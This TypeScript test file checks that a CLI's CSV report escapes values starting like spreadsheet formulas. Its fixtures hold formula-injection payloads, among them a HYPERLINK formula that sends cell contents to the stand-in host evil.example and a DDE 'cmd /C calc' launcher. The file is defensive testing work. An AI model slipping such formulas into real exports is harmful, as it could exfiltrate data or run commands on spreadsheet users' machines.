/**
 * The CSV to-do list of `report` opened in a spreadsheet: a legacy value that starts like a formula
 * (`=`, `+`, `-`, `@`, a tab, a carriage return, or their full-width forms) is text there, never a live
 * formula, in every column; and every value, the raw legacy row first, is given back exactly by the one
 * documented rule: a cell that starts with `'` loses that one `'`.
 */
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { parse } from "csv-parse/sync"
import { describe, expect, it } from "vitest"
import { openMapJournal } from "../../src/ledger/map-journal.js"
import { runCli, tempDir } from "./run-cli.js"

const dir = tempDir()

/** What a spreadsheet reads as a formula at the start of a cell (OWASP's CSV injection list, and the full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/u

/** The value the cell stands for: the documented rule, one leading `'` removed. */
const valueOf = (cell: string): string => (cell.startsWith("'") ? cell.slice(1) : cell)

const REJECTS = [
  { supplier: "=SUPPLIER", account: "+49-KD", detail: "@SUM(A1:A9)", raw: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Fix\");2024-03-01;1,5" },
  { supplier: "-SW", account: "\tKD-2", detail: "\r=1+1", raw: "-2+3;cmd|' /C calc'!A0" },
  { supplier: "\uff1dSW", account: "KD-3", detail: "fine", raw: "'=already quoted;2024-03-02" },
  { supplier: "SW", account: "'KD-4", detail: "a detail, \"quoted\"", raw: "plain;row;1,5" }
]

describe("report --format csv: values that start like formulas", () => {
  it("are text in every column, and each value comes back exactly by removing one leading quote mark", async () => {
    const path = join(dir, "formulas.ledger")
    const journal = openMapJournal(path, { input: join(dir, "legacy.csv"), output: join(dir, "legacy.ndjson"), endpoint: "energy-amount" })
    REJECTS.forEach((reject, i) => journal.rejected({ lines: [i + 2], codes: ["invalid_decimal"], ...reject }))
    journal.end("completed", { rowsRead: REJECTS.length, payloads: 0, rowsRejected: REJECTS.length })
    const out = join(dir, "formulas.csv")
    expect((await runCli(["report", "--journal", path, "--format", "csv", "--out", out])).code).toBe(1)
    const rows = parse(readFileSync(out, "utf8"), { columns: true }) as Array<Record<string, string>>
    expect(rows).toHaveLength(REJECTS.length)
    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, column).not.toMatch(FORMULA_START)
    for (const reject of REJECTS) {
      const row = rows.find((r) => valueOf(r["raw"]!) === reject.raw)
      expect(row, reject.raw).toBeDefined()
      expect({ supplier: valueOf(row!["supplier"]!), account: valueOf(row!["account"]!), detail: valueOf(row!["detail"]!) }).toEqual({
        supplier: reject.supplier,
        account: reject.account,
        detail: reject.detail
      })
    }
    // Worked out by hand: a formula start gains one quote mark; a value starting with a quote mark gains one too.
    expect(rows.map((r) => r["raw"])).toEqual([
      "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Fix\");2024-03-01;1,5",
      "'-2+3;cmd|' /C calc'!A0",
      "''=already quoted;2024-03-02",
      "plain;row;1,5"
    ])
    expect(rows.map((r) => r["account"])).toEqual(["'+49-KD", "'\tKD-2", "KD-3", "''KD-4"])
    expect(rows[1]!["detail"]).toBe("'\r=1+1")
  })
})
